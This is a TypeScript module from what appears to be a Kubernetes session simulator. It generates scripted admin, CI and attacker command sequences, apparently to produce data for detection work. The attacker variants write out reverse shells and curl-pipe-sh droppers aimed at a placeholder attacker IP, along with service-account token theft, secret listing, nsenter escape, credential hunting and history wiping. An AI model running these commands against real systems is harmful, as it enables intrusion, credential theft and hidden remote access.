/**
 * What is typed in each kind of interactive exec session. The mixes overlap on purpose: admins read configs,
 * mounts and cgroups and install tools now and then; attackers come in several variants, some quick and
 * noisy, some that only read the token and call the API once, some that look around like an admin would.
 */
import { failing, parseCommand, type Command } from './commands';
import type { Random } from './random';
import type { SessionKind } from './sessions';
import type { Pod } from './world';

export interface Step {
  command: Command;
  /** Pause before it (reading output, thinking, typing), ms. */
  gapMs: readonly [number, number];
  /** Runs in the reverse shell an earlier step opened instead of at the exec'd prompt. */
  remote?: boolean;
}

export interface Script {
  /** Which variant of the kind (`labels.simulator_variant`). */
  variant: string;
  steps: Step[];
}

export const TOKEN_PATH = '/var/run/secrets/kubernetes.io/serviceaccount/token';
/** The attacker's server: payloads, reverse shells, and (audit log) where the stolen token is used from. */
export const ATTACKER_IP = '203.0.113.50';

type Gap = readonly [number, number];
const FIRST_LOOK: Gap = [1_500, 8_000];
const ADMIN_GAP: Gap = [2_000, 25_000];
const DEVELOPER_GAP: Gap = [2_000, 40_000];
const CI_GAP: Gap = [200, 3_000];
/** Attackers paste prepared lines: quick after the exec and between commands. */
const ATTACKER_FIRST: Gap = [500, 3_000];
const ATTACKER_GAP: Gap = [400, 4_000];
const CAREFUL_GAP: Gap = [4_000, 30_000];

const GENERIC_DEBUG = ['env', 'ps aux', 'df -h', 'ls -la', 'cat /etc/resolv.conf', 'hostname', 'date', 'free -m', 'uptime', 'top -b -n 1', 'cat /etc/os-release'];

/** What people look at in each workload. */
const WORKLOAD_DEBUG: Record<string, string[]> = {
  'web-frontend': ['cat /etc/nginx/nginx.conf', 'nginx -t', 'ls -la /usr/share/nginx/html', 'tail -n 100 /var/log/nginx/error.log', 'curl -s localhost/healthz', 'cat /etc/nginx/conf.d/default.conf'],
  'checkout-api': ['ls -la /app', 'cat package.json', 'node -e "console.log(process.version)"', 'wget -qO- localhost:8080/healthz', 'tail -n 100 /var/log/app.log', 'npm ls --depth=0'],
  catalog: ['ls -la /app', 'python3 manage.py showmigrations', 'pip list', 'curl -s localhost:8000/healthz', 'tail -n 100 /var/log/app.log', 'cat catalog/settings.py'],
  'payments-api': ['ls -la /app', 'jcmd 1 VM.uptime', 'curl -s localhost:8080/healthz', 'tail -n 100 /var/log/app.log', 'cat /app/config/application.yaml'],
  postgres: ['psql -U postgres -c "select count(*) from pg_stat_activity"', 'du -sh /var/lib/postgresql/data', 'tail -n 100 /var/lib/postgresql/data/log/postgresql.log', 'pg_isready -U postgres'],
  redis: ['redis-cli info memory', 'redis-cli dbsize', 'redis-cli slowlog get 10', 'ls -la /data'],
  'kube-proxy': ['cat /var/lib/kube-proxy/config.conf', 'iptables-save | wc -l', 'iptables -t nat -L KUBE-SERVICES -n | head -n 20'],
  'ops-toolbox': [
    'kubectl get pods -n kube-system', 'kubectl rollout status deploy/coredns -n kube-system', 'dig +short checkout-api.shop.svc.cluster.local',
    'curl -s http://prometheus.monitoring.svc:9090/-/ready', 'psql -h postgres-0.postgres.data -U postgres -c "select 1"', 'kubectl top nodes',
    'kubectl auth can-i --list -n data', 'kubectl logs -n shop deploy/checkout-api --tail=50',
  ],
  prometheus: ['wget -qO- localhost:9090/-/ready', 'ls -la /prometheus', 'cat /etc/prometheus/prometheus.yml'],
};

const parsed = new Map<string, Command>();
/** Parsed once: the catalogue's lines repeat in every session (the templates are never mutated). */
function parseOnce(line: string): Command {
  let command = parsed.get(line);
  if (!command) {
    command = parseCommand(line);
    parsed.set(line, command);
  }
  return command;
}

const step = (line: string, gapMs: Gap, remote = false): Step => ({ command: parseOnce(line), gapMs, remote });
/** A line with something of this session in it (a token): parsed for it alone, so the cache stays small. */
const ownStep = (line: string, gapMs: Gap): Step => ({ command: parseCommand(line), gapMs });

/** Inserts `s` at a random position after the first step, and no later than `last`. */
function insertSomewhere(rng: Random, steps: Step[], s: Step, last = steps.length): void {
  steps.splice(rng.int(Math.min(1, steps.length), Math.min(last, steps.length)), 0, s);
}

function benign(rng: Random, kind: 'admin' | 'developer', pod: Pod): Script {
  const w = pod.workload;
  const gap = kind === 'admin' ? ADMIN_GAP : DEVELOPER_GAP;
  const own = WORKLOAD_DEBUG[w.name] ?? [];
  // The workload's own checks are what people exec in for: twice as likely as the generic ones.
  const pool = [...GENERIC_DEBUG, ...own, ...own];
  const steps: Step[] = [];
  const root = w.execUser.id === '0';
  if (root && w.packages && rng.chance(0.06)) {
    // `ps: command not found` in a slim image: install it, then look.
    steps.push(step(w.packages === 'apt' ? 'apt-get update && apt-get install -y procps' : 'apk add --no-cache procps', gap));
    steps.push(step('ps aux', [1_000, 5_000]));
  }
  const n = rng.int(2, 7);
  let last = '';
  while (steps.length < n) {
    const line = rng.pick(pool);
    if (line === last) continue;
    last = line;
    steps.push(step(line, gap));
  }
  if (rng.chance(0.1)) insertSomewhere(rng, steps, step('mount | grep data', gap));
  if (rng.chance(0.03)) insertSomewhere(rng, steps, step('cat /proc/1/cgroup', gap));
  steps[0] = { ...steps[0], gapMs: FIRST_LOOK };
  return { variant: kind === 'admin' ? 'debug' : 'inspect', steps };
}

const CI_JOBS: Record<string, string[]> = {
  'runner-node': ['git fetch --depth 1 origin', 'sh -c "npm ci && npm test"', 'ls -la dist', 'tar -czf artifacts.tgz dist'],
  'runner-go': ['git fetch --depth 1 origin', 'go version', 'make test', 'go build ./...'],
  'runner-python': ['git fetch --depth 1 origin', 'sh -c "pip install -r requirements.txt && pytest -q"', 'ls -la'],
  'runner-jvm': ['git fetch --depth 1 origin', './gradlew check', 'ls -la build/reports'],
};

function ci(rng: Random, pod: Pod): Script {
  const job = CI_JOBS[pod.workload.name] ?? CI_JOBS['runner-node'];
  const steps: Step[] = [];
  if (rng.chance(0.5)) steps.push(step('env | sort', CI_GAP));
  // A job that resumes skips the fetch; one that fails stops after its test step.
  const from = rng.chance(0.3) ? 1 : 0;
  const to = rng.chance(0.15) ? 2 : job.length;
  for (const line of job.slice(from, to)) steps.push(step(line, CI_GAP));
  steps[0] = { ...steps[0], gapMs: [300, 2_000] };
  return { variant: pod.workload.name.replace('runner-', 'job-'), steps };
}

const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
function base64url(rng: Random, length: number): string {
  let s = '';
  for (let i = 0; i < length; i++) s += BASE64URL[rng.int(0, 63)];
  return s;
}

/** A service-account token as the shell expands `$TOKEN`: a JWT (header of the kind the apiserver signs, made-up rest). */
function fakeToken(rng: Random): string {
  return `eyJhbGciOiJSUzI1NiIsImtpZCI6I${base64url(rng, 22)}.eyJhdWQiOlsiaHR0cHM6Ly9rdWJlcm5ldGVzLmRlZmF1bHQuc3ZjIl0s${base64url(rng, 40)}.${base64url(rng, 43)}`;
}

interface AttackContext {
  rng: Random;
  pod: Pod;
  token: string;
  root: boolean;
}

const apiCall = (c: AttackContext, path: string): string =>
  `curl -sk -H "Authorization: Bearer ${c.token}" https://kubernetes.default.svc/api/v1/${path}`;

/** Sometimes-present extras of the quick variants, early on: env, tool and credential hunting. */
function extras(c: AttackContext, steps: Step[]): void {
  const { rng } = c;
  if (rng.chance(0.35)) insertSomewhere(rng, steps, step('env', ATTACKER_GAP), 2);
  if (rng.chance(0.3)) insertSomewhere(rng, steps, step('which curl wget nc python3 kubectl', ATTACKER_GAP), 2);
  if (rng.chance(0.25)) {
    const line = rng.pick(CREDENTIAL_HUNTS);
    insertSomewhere(rng, steps, { command: c.root ? parseOnce(line) : failing(line, 1), gapMs: ATTACKER_GAP }, 3);
  }
}

const CREDENTIAL_HUNTS = ['grep -ri password /app /etc', 'find / -name id_rsa', 'cat /root/.aws/credentials', 'grep -r aws_secret_access_key /root /home /app'];

function historyWipe(c: AttackContext): Step {
  const home = c.root ? '/root' : c.pod.workload.workdir;
  return c.rng.chance(0.5) ? step(`history -c && rm -f ${home}/.bash_history`, ATTACKER_GAP) : step('bash -c "history -c"', ATTACKER_GAP);
}

/** After a reverse shell connects: a few commands through it, no tty. */
function throughReverseShell(c: AttackContext): Step[] {
  const lines = ['id', 'cat /proc/1/cgroup', 'mount', 'ps aux', 'ls -la /root', 'crontab -l', c.root ? 'cat /etc/shadow' : 'cat /etc/passwd'];
  const out: Step[] = [];
  for (let i = c.rng.int(2, 4); i > 0; i--) out.push(step(c.rng.pick(lines), [2_000, 15_000], true));
  return out;
}

type Variant = { name: string; weight: number; fits(c: AttackContext): boolean; steps(c: AttackContext): Step[] };

const attackerVariants: Variant[] = [
  {
    name: 'reverse_shell',
    weight: 3,
    fits: (c) => c.root && c.pod.workload.packages !== undefined,
    steps: (c) => {
      const apt = c.pod.workload.packages === 'apt';
      const steps = [
        step(`cat ${TOKEN_PATH}`, ATTACKER_FIRST),
        ownStep(apiCall(c, `namespaces/${c.rng.chance(0.5) ? 'default' : c.pod.workload.namespace}/secrets`), ATTACKER_GAP),
        step(apt ? 'apt-get update && apt-get install -y netcat-openbsd' : 'apk add --no-cache netcat-openbsd', ATTACKER_GAP),
        // netcat-openbsd has no -e: the first try fails, the attacker falls back on the shell's own /dev/tcp.
        { command: failing(`nc ${ATTACKER_IP} 4444 -e /bin/sh`, 1), gapMs: ATTACKER_GAP },
        c.pod.workload.shell === 'bash'
          ? step(`bash -c "bash -i >& /dev/tcp/${ATTACKER_IP}/4444 0>&1"`, ATTACKER_GAP)
          : step(`sh -c "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc ${ATTACKER_IP} 4444 > /tmp/f"`, ATTACKER_GAP),
      ];
      if (c.rng.chance(0.5)) steps.unshift(step('id', ATTACKER_FIRST));
      extras(c, steps);
      steps.push(...throughReverseShell(c));
      if (c.rng.chance(0.6)) steps.push(historyWipe(c));
      return steps;
    },
  },
  {
    name: 'netcat_traditional',
    weight: 1.5,
    fits: (c) => c.root && c.pod.workload.packages === 'apt',
    steps: (c) => {
      const steps = [
        step(`cat ${TOKEN_PATH}`, ATTACKER_FIRST),
        step('apt-get update && apt-get install -y netcat-traditional', ATTACKER_GAP),
        step(`nc ${ATTACKER_IP} 4444 -e /bin/sh`, ATTACKER_GAP),
      ];
      extras(c, steps);
      steps.push(...throughReverseShell(c));
      return steps;
    },
  },
  {
    name: 'dropper',
    weight: 2.5,
    fits: () => true,
    steps: (c) => {
      const { rng } = c;
      const hasWget = c.pod.workload.packages === 'apk';
      const [path, url] = rng.chance(0.7) ? ['/tmp/.kworker', `http://${ATTACKER_IP}/k`] : ['/dev/shm/agent', `http://${ATTACKER_IP}/agent`];
      const fetch = hasWget ? `wget -O ${path} ${url}` : `curl -s -o ${path} ${url}`;
      const steps: Step[] = [];
      if (rng.chance(0.6)) steps.push(step('uname -a', ATTACKER_FIRST));
      if (rng.chance(0.5)) steps.push(step('cat /etc/os-release', ATTACKER_GAP));
      steps.push(step(`${fetch} && chmod ${rng.chance(0.8) ? '+x' : '777'} ${path} && ${path}`, steps.length === 0 ? ATTACKER_FIRST : ATTACKER_GAP));
      if (rng.chance(0.5)) steps.push(step('crontab -l', ATTACKER_GAP));
      if (rng.chance(0.6)) steps.push(step(`rm -rf ${path}`, ATTACKER_GAP));
      extras(c, steps);
      if (rng.chance(0.5)) steps.push(historyWipe(c));
      return steps;
    },
  },
  {
    name: 'escape_attempt',
    weight: 1.5,
    fits: () => true,
    steps: (c) => {
      const { rng } = c;
      const steps = [
        step('id', ATTACKER_FIRST),
        step('cat /proc/1/cgroup', ATTACKER_GAP),
        step('mount', ATTACKER_GAP),
        step('ls -la /var/run/secrets/kubernetes.io/serviceaccount', ATTACKER_GAP),
        step('nsenter --target 1 --mount --uts --ipc --net --pid -- sh', ATTACKER_GAP),
      ];
      if (rng.chance(0.5)) steps.splice(3, 0, step('capsh --print', ATTACKER_GAP));
      if (rng.chance(0.4)) steps.push({ command: failing('ls /host', 2), gapMs: ATTACKER_GAP });
      if (rng.chance(0.7)) steps.push(step(`cat ${TOKEN_PATH}`, ATTACKER_GAP), ownStep(apiCall(c, `namespaces/${c.pod.workload.namespace}/pods`), ATTACKER_GAP));
      return steps;
    },
  },
  {
    name: 'token_only',
    weight: 1.5,
    fits: () => true,
    steps: (c) => {
      // Reads the token and calls the API once, unhurried: nothing else to see.
      const steps: Step[] = [];
      if (c.rng.chance(0.4)) steps.push(step('ls -la', FIRST_LOOK));
      steps.push(step(`cat ${TOKEN_PATH}`, steps.length === 0 ? FIRST_LOOK : CAREFUL_GAP));
      const resource = c.rng.pick([`namespaces/${c.pod.workload.namespace}/secrets`, 'namespaces/default/secrets', `namespaces/${c.pod.workload.namespace}/configmaps`]);
      steps.push(ownStep(apiCall(c, resource), CAREFUL_GAP));
      return steps;
    },
  },
  {
    name: 'curl_pipe_sh',
    weight: 1.5,
    fits: () => true,
    steps: (c) => {
      const fetch = c.pod.workload.packages === 'apk' ? `wget -qO- http://${ATTACKER_IP}/x.sh` : `curl -fsSL http://${ATTACKER_IP}/x.sh`;
      const steps = [step(c.rng.pick(['id', 'whoami']), ATTACKER_FIRST), step(`${fetch} | sh`, ATTACKER_GAP)];
      if (c.rng.chance(0.5)) steps.splice(1, 0, step('which curl wget nc python3 kubectl', ATTACKER_GAP));
      if (c.rng.chance(0.4)) steps.push(step('ps aux', ATTACKER_GAP));
      return steps;
    },
  },
  {
    name: 'recon',
    weight: 1,
    fits: () => true,
    steps: (c) => {
      // Looks around like someone debugging would, and leaves: only the order and the secrets directory tell.
      const { rng } = c;
      const own = WORKLOAD_DEBUG[c.pod.workload.name] ?? GENERIC_DEBUG;
      const steps = [
        step('env', FIRST_LOOK),
        step('ps aux', [2_000, 12_000]),
        step(rng.pick(own), [2_000, 12_000]),
        step('mount', [2_000, 12_000]),
        step('cat /proc/1/cgroup', [2_000, 12_000]),
        step('ls -la /var/run/secrets/kubernetes.io/serviceaccount', [2_000, 12_000]),
      ];
      if (rng.chance(0.5)) steps.push(step('cat /var/run/secrets/kubernetes.io/serviceaccount/namespace', [2_000, 12_000]));
      if (rng.chance(0.3)) steps.push(step('grep -ri password /app /etc', [2_000, 12_000]));
      return steps;
    },
  },
];

/** Names of the attacker variants (`labels.simulator_variant` of attacker sessions). */
export const ATTACKER_VARIANTS: readonly string[] = attackerVariants.map((v) => v.name);

function attacker(rng: Random, pod: Pod): Script {
  const c: AttackContext = { rng, pod, token: fakeToken(rng), root: pod.workload.execUser.id === '0' };
  const fitting = attackerVariants.filter((v) => v.fits(c));
  let r = rng.next() * fitting.reduce((sum, v) => sum + v.weight, 0);
  let chosen = fitting[fitting.length - 1];
  for (const v of fitting) {
    r -= v.weight;
    if (r < 0) {
      chosen = v;
      break;
    }
  }
  return { variant: chosen.name, steps: chosen.steps(c) };
}

/** What is typed in one session of `kind` in `pod`. */
export function sessionScript(rng: Random, kind: SessionKind, pod: Pod): Script {
  switch (kind) {
    case 'admin':
    case 'developer':
      return benign(rng, kind, pod);
    case 'ci':
      return ci(rng, pod);
    case 'attacker':
      return attacker(rng, pod);
  }
}
